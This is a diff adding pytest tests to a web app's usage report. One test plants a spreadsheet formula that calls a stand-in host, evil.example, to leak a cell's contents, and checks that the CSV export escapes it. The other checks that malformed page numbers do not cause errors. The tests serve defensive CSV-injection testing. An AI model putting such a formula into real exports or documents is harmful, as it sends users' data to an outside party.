@@ -539,3 +539,22 @@ def test_the_report_costs_the_same_queries_for_3_or_30_users(client, staff, make
     large = [queries_for(client, {**level, **extra}) for level in levels]
     assert small == large
     assert max(large) <= 9  # 8, and one for the replies' ratings per model
+
+
+def test_a_title_that_looks_like_a_formula_stays_text_in_the_csv(client, staff, owner):
+    evil = conversation_of(owner)
+    evil.title = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    evil.save()
+    spend(owner, conversation=evil, message=reply_in(evil))
+    client.force_login(staff)
+    rows = csv_rows(client.get(REPORT, {"user": owner.pk, "format": "csv"}))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'" + evil.title in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
+
+
+def test_a_page_number_past_any_integer_is_an_empty_page_not_an_error(client, staff, owner):
+    spend(owner)
+    client.force_login(staff)
+    for page in ("99999999999999999999999", "-5", "x"):
+        assert client.get(REPORT, {"page": page}).status_code == 200
